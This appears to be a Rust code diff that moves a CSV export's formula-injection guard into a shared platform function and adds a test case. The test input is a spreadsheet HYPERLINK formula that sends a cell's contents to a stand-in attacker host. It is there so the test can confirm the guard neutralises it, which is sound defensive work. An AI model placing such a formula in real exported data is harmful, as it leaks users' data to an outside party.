@@ -295,15 +295,10 @@ fn choices(names: HashMap<Uuid, String>) -> Vec<Choice> {
     v
 }
 
-/// `'` before a field a spreadsheet would read as a formula (`=`, `@`, a tab or carriage
-/// return, or `+`/`-` not followed by a digit or a space, so phone numbers stay as written).
+/// `'` before a field a spreadsheet would read as a formula
+/// ([`platform::csv::formula_guard`]).
 fn inert(field: &str) -> &'static str {
-    let mut chars = field.chars();
-    match (chars.next(), chars.next()) {
-        (Some('=' | '@' | '\t' | '\r'), _) => "'",
-        (Some('+' | '-'), Some(c)) if !c.is_ascii_digit() && c != ' ' => "'",
-        _ => "",
-    }
+    platform::csv::formula_guard(field)
 }
 
 /// The worklist as CSV (RFC 4180: every field quoted, quotes doubled, CRLF line ends).
@@ -427,5 +422,9 @@ mod tests {
         assert_eq!(inert("-cmd"), "'");
         assert_eq!(inert("+33 6 12"), "");
         assert_eq!(inert("Zyx"), "");
+        assert_eq!(
+            inert("-1+HYPERLINK(\"https://evil.example/?\"&I2;\"open\")"),
+            "'"
+        );
     }
 }
